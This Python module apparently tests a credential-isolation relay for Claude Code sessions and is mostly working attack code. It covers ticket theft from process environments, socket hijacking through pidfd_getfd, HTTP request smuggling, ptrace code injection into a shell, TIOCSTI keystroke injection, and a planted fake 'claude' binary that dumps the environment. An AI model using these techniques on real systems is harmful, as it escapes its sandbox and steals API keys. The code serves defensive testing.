"""Use: a request with the key that the session's client did not make."""
import ctypes
import json
import os
import re
import resource
import socket
import sys
from pathlib import Path

import kit
import wire_client as wc
from kit import NotHere, call, dump, each, libc, say, show, talk


def own_relay(s, ticket=None, **changes):
    """A session of the attacker's own, by the raw protocol; the path of its relay's socket.
    It must not be marked by ccrun, because the attacker does not run ccrun."""
    path = f"/tmp/ccatk-{os.getpid()}"
    Path(path).unlink(missing_ok=True)
    with s.broker() as c, socket.socket(socket.AF_UNIX) as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        listener.bind(path)
        listener.listen(16)
        listener.setblocking(False)
        fields = {"origin": s.origin, "delivery": "relay", "project": "/home/me", **changes}
        if ticket:
            fields["ticket"] = ticket
        if s.confine:
            fields["confine"] = s.confine  # which the kernel is not asked about
        print(c.raw(wc.request("open", **wc.open_fields(s.entry, **fields))))
        c.send(wc.request("relay"), [listener.fileno()])
        print(wc.unpack(c.recv()))
    # A session's process bears it already, and a confined one may set no limits.
    if resource.getrlimit(kit.LOCKS)[1] == resource.RLIM_INFINITY:
        wc.mark()
    return path


def raw_session(s):
    talk(own_relay(s), s.request())


def ticket(s):
    """The ticket of the session from its children's environment, shown to the broker."""
    if not s.ticket:
        raise NotHere("no ticket in this column")
    talk(own_relay(s, s.ticket), s.request())


def nested_ccrun(s):
    s.run('$CCRUN $E -p "$TAG" < /dev/null', E=s.entry, timeout=15)


def nested_claude(s):
    """By PATH, as every script starts it."""
    s.run('claude -p "$TAG" < /dev/null', timeout=15)


def client_socket(s):
    """The relay's socket, by the client's names for its descriptors and by the environment."""
    paths = [os.environ.get("ANTHROPIC_UNIX_SOCKET", "/proc/self/fd/9")]
    for pid in s.clients:
        paths += [f"/proc/{pid}/fd/{fd}" for fd in range(64)]
    for path in paths:
        try:
            talk(path, s.request(), 1)
        except OSError as e:
            print(path, e.strerror)


def listening(s):
    """Every unix socket that the kernel lists, abstract ones too."""
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        words = line.split()
        if len(words) < 8 or words[4] != "0001":
            continue
        path = words[7]
        if not any(str(p) in path for p in (s.home, s.runtime, s.out.parent)) and not path.startswith("@cc"):
            continue
        try:
            talk(path.replace("@", "\0", 1) if path[0] == "@" else path, s.request(), 0.5)
        except OSError as e:
            print(path, e.strerror)


def taken_connection(s):
    """A live connection of the client's, pulled out by its number."""
    def take(pid):
        pidfd = os.pidfd_open(pid)
        for fd in range(3, 64):
            try:
                with socket.socket(fileno=call("pidfd_getfd", pidfd, fd, 0)) as sock:
                    say(sock, s.request(), 0.3)
            except OSError as e:
                print(fd, e.strerror)
    each(s.clients, take)


def others_ticket(s):
    """A ticket from the environment of whatever process shows one."""
    found = set()
    for pid in s.pids():
        try:
            for item in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0"):
                if item.startswith(b"CCRUN_TICKET="):
                    found.add(item[13:].decode())
        except OSError:
            continue
    found.discard(s.ticket)
    if not found:
        raise NotHere("nobody shows another one")
    for one in sorted(found):
        try:
            talk(own_relay(s, one), s.request())
        except OSError as e:
            print(e)


def guessed_ticket(s):
    """Tickets that are nearly one."""
    mine = s.ticket or "0" * 32
    for one in ("0" * 32, mine[:-1], mine + "0", mine[::-1], mine.upper(), "f" * 32, "\0" * 32):
        try:
            talk(own_relay(s, one), s.request())
        except Exception as e:  # pylint: disable=broad-except
            print(repr(e))


# ---- what passes a relay: each in a session of the attacker's own ----

def inner(s):
    """The tag is in the path, which no relay sends on: what arrives was smuggled."""
    return f"GET /v1/files?{s.tag} HTTP/1.1\r\nHost: ccrun.invalid\r\n\r\n".encode()


def asking(*lines):
    """An attack: requests with these lines, {tag} in them."""
    def act(s):
        path = own_relay(s, s.ticket or None)
        for line in lines:
            try:
                talk(path, s.request(line.format(tag=s.tag, evil=s.evil, endpoint=s.endpoint), body=b"{}"), 1)
            except OSError as e:
                print(line, e)
    return act


other_paths = asking("GET /v1/files?{tag} HTTP/1.1", "POST /v1/messages/batches?{tag} HTTP/1.1",
                     "GET /v1/organizations/api_keys?{tag} HTTP/1.1", "POST /v1/messages/../files?{tag} HTTP/1.1",
                     "POST /v1/messages%2f..%2ffiles?{tag} HTTP/1.1", "DELETE /v1/messages?{tag} HTTP/1.1",
                     "POST //v1/messages?{tag} HTTP/1.1", "POST /v1/messages;{tag}/../files HTTP/1.1",
                     "PUT /v1/models?{tag} HTTP/1.1", "POST /v1/messages?beta=true&{tag} HTTP/1.1")
other_hosts = asking("POST {evil}/v1/messages?{tag} HTTP/1.1", "CONNECT 127.0.0.1:80 HTTP/1.1",
                     "POST {endpoint}/v1/files?{tag} HTTP/1.1", "POST //evil.test/v1/messages?{tag} HTTP/1.1",
                     "GET @127.0.0.1/{tag} HTTP/1.1", "PRI * HTTP/2.0")


def smuggling(s):
    """Requests that two readers take for different ones."""
    path = own_relay(s, s.ticket or None)
    post = b"POST /v1/messages HTTP/1.1\r\nHost: ccrun.invalid\r\n"
    hidden = inner(s)
    size = str(len(hidden)).encode()
    for head in (b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                 b"Content-Length: 0\r\nContent-Length: " + size + b"\r\n\r\n",
                 b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
                 b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n", b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
                 b"Content-Length: +0\r\n\r\n", b"X: a\nContent-Length: 0\r\n\r\n",
                 b"X: a\r\n b\r\nContent-Length: 0\r\n\r\n",
                 b"X\0: a\r\nContent-Length: 0\r\n\r\n", b"Content-Length: 0\r\n\r\n",
                 b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nX-A: b\r\n\r\n",
                 b"Transfer-Encoding: chunked\r\n\r\n2;a=b\n{}\r\n0\r\n\r\n",
                 b"Upgrade: h2c\r\nContent-Length: 0\r\n\r\n",
                 b"Connection: content-length\r\nContent-Length: 0\r\n\r\n"):
        try:
            talk(path, post + head + hidden, 0.5)
        except OSError as e:
            print(head[:40], e)


def routing(s):
    """Header fields that a server or a proxy would follow; the tag is in their values."""
    values = {"X-HTTP-Method-Override": "DELETE", "X-Original-URL": f"/v1/files?{s.tag}",
        "X-Rewrite-URL": f"/v1/files?{s.tag}",
              "X-Forwarded-Host": f"evil.test/{s.tag}", "Forwarded": f"host=evil.test;{s.tag}", "Cookie": s.tag,
              "x-api-key": s.tag, "Proxy-Authorization": s.tag, "X-Amz-Security-Token": s.tag, "Via": s.tag}
    path = own_relay(s, s.ticket or None)
    talk(path, s.request(fields=[f"{k}: {v}" for k, v in values.items()], body=b'{"model":"m","messages":[]}'))


def passed_connection(s):
    """A connection of an own session, handed to a process that has none."""
    path = own_relay(s, s.ticket or None)
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(path)
        if os.fork() == 0:
            os.setsid()
            say(sock, s.request(), 2)
            os._exit(0)
        os.wait()


def child_of_session(s):
    """A child of the process that a relay serves."""
    path = own_relay(s, s.ticket or None)
    if os.fork() == 0:
        talk(path, s.request(), 2)
        os._exit(0)
    os.wait()


def echo(how):
    """An attack: the provider answers with the key that it was sent, in this form."""
    def act(s):
        path = own_relay(s, s.ticket or None)
        talk(path, s.request(body=json.dumps({"model": "m", "max_tokens": 9, "stream": True, "echo": how,
            "tools": [{"name": "Bash"}], "messages": [
            {"role": "user", "content": s.tag}]}).encode()))
    return act


def quota_worker(s):
    """Pose as the worker that asks for quota numbers."""
    wc.undumpable()
    for kind in ("zai", "deepseek", "none"):
        with s.broker() as c:
            print(c.raw(wc.request("usage-next", name=s.entry, kind=kind, path=f"/v1/files?{s.tag}", bearer=True)))


def burst(s):
    """More at once than the limit leaves (the follow-up has set one)."""
    path = own_relay(s, s.ticket or None)
    pids = []
    socks = [socket.socket(socket.AF_UNIX) for _ in range(20)]
    for sock in socks:
        sock.connect(path)
        sock.sendall(s.request())
    for sock in socks:
        sock.settimeout(1)
        try:
            show(sock.recv(4096))
        except OSError as e:
            print(e)
    del pids


def lower_prices(s):
    """The provider's file says that nothing costs anything; in the next session, many requests."""
    text = s.provider_file.read_text()
    lower = re.sub(r"(?m)^(\S+) = [\d.]+ [\d.]+$", r"\1 = 0 0", text)
    if lower == text:
        burst(s)
    else:
        s.provider_file.write_text(lower)


# ---- the mark, shed: somebody outside runs it ----

ASKS = ('$CCCTL get {e} --reveal; $CCCTL backup $HOME/b; python3 {s.kit}/raw_get.py {s.socket} {e}; '
        'timeout 5 $CCRUN --exec /usr/bin/env {e}; timeout 9 $CCRUN {e} -p "{s.tag}"')


def asked_outside(s):
    """What is to be run there: read it, or else use it."""
    if s.plain:
        raise NotHere("no ccrun there")
    text = ASKS.format(e=s.entry, s=s).replace("$CCRUN", str(s.ccrun)).replace("$CCCTL", str(s.ccctl))
    script = s.out / f"outside.{s.technique}.{s.vantage}"
    # A service has an environment of its own.
    env = "".join(f"export {k}='{v}'\n" for k, v in os.environ.items() if k.startswith("XDG_")
                  or k in ("HOME", "PATH", "TMPDIR"))
    script.write_text(f"#!/bin/bash\nexec < /dev/null\n{env}{s.note}\n"
                      f"(setsid -w bash -c '{text}') > {s.won}.{s.vantage} 2>&1\n"
                      f"touch {s.won}.{s.vantage}.end\n")
    script.chmod(0o755)
    return script


def wait_outside(s, seconds=20):
    kit.until(Path(f"{s.won}.{s.vantage}.end").exists, seconds)
    for path in s.out.glob(f"won.{s.technique}.{s.vantage}*"):
        dump(path)


def by_service(s):
    """A user service from before the session: systemd-run --user, at, cron, ssh, D-Bus."""
    script = asked_outside(s)
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(str(s.out / "service.sock"))
        sock.sendall(str(script).encode())
        sock.settimeout(20)
        show(sock.recv(4096))
    wait_outside(s)


def by_tmux(s):
    """A tmux server from before the session."""
    s.needs("tmux")
    s.run(f"tmux -S {s.out}/tmux.sock run-shell -b {asked_outside(s)}")
    wait_outside(s)


def by_manager(service, *command):
    """An attack: the machine's own services, where they run."""
    def act(s):
        s.needs(service)
        script = asked_outside(s)
        print(s.run(f"timeout 5 {' '.join(command).format(script=script, home=s.home)}"))
        wait_outside(s)
    return act


REGS = 27 * 8


def by_debugger(s):
    """A shell of the person's outside, made to execute something by its tracer."""
    if s.plain:
        raise NotHere("no ccrun there")
    script = str(asked_outside(s))
    pid = int((s.out / "shell.pid").read_text())
    call("ptrace", 16, pid, 0, 0)
    os.waitpid(pid, 0x40000000)
    regs = (ctypes.c_ulong * 27)()
    call("ptrace", 12, pid, 0, ctypes.byref(regs))
    # execve("/bin/bash", {"/bin/bash", script, 0}, 0 ...): on its stack, by its own instruction.
    base = (regs[19] - 8192) & ~0xfff
    strings = b"/bin/bash\0".ljust(64, b"\0") + script.encode() + b"\0"
    vector = [base, base + 64, 0]
    data = strings.ljust(512, b"\0") + b"".join(v.to_bytes(8, "little") for v in vector)
    env = [f"{k}={v}".encode() for k, v in os.environ.items() if k in ("HOME", "PATH", "XDG_RUNTIME_DIR",
        "XDG_CONFIG_HOME",
                                                                       "XDG_DATA_HOME", "XDG_STATE_HOME", "CCRUN_KDF")]
    at, table = base + len(data) + 256, []
    blob = b""
    for item in env:
        table.append(at + len(blob))
        blob += item + b"\0"
    mem = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    os.pwrite(mem, data, base)
    os.pwrite(mem, blob, at)
    tables = (at + len(blob) + 15) & ~15
    os.pwrite(mem, b"".join(v.to_bytes(8, "little") for v in (*table, 0)), tables)
    os.pwrite(mem, b"\x0f\x05", regs[16])
    regs[10], regs[15], regs[14], regs[13], regs[12] = 59, 2**64 - 1, base, base + 512, tables
    call("ptrace", 13, pid, 0, ctypes.byref(regs))
    call("ptrace", 17, pid, 0, 0)
    wait_outside(s)


def typed_into_shell(s):
    """TIOCSTI: characters put into the terminal, for the shell that waits behind the session."""
    script = asked_outside(s)
    tty = os.open("/dev/tty", os.O_RDWR)
    for character in f"{script}\n":
        libc.ioctl(tty, 0x5412, ctypes.create_string_buffer(character.encode()))
        if ctypes.get_errno():
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def planted_client(s):
    """Another claude earlier in PATH."""
    where = s.home / "bin"
    where.mkdir(exist_ok=True)
    (where / "claude").write_text(f"""#!{sys.executable}
import os, sys
if "CCRUN_TICKET" not in os.environ and len(os.environ.get("ANTHROPIC_AUTH_TOKEN", "")) < 20:
    # It is tried: as the true one.
    path = [d for d in os.environ["PATH"].split(":") if d != "{where}" and os.access(d + "/claude", os.X_OK)]
    os.execv(path[0] + "/claude", ["claude", *sys.argv[1:]])
sys.path[:0] = ["{s.kit}", "{s.lib}"]
from kit import Scene, talk
s = Scene("{s.path}")
s.technique = "{s.technique}"
with open("{s.won}.env", "w") as f:
    f.write(repr(dict(os.environ)))
os.dup2(os.open("{s.won}.said", os.O_WRONLY | os.O_CREAT), 1)
if "ANTHROPIC_UNIX_SOCKET" in os.environ:
    talk(os.environ["ANTHROPIC_UNIX_SOCKET"], s.request())
""")
    (where / "claude").chmod(0o755)
    with open(s.home / ".bashrc", "a") as f:
        f.write(f"PATH={where}:$PATH\n")
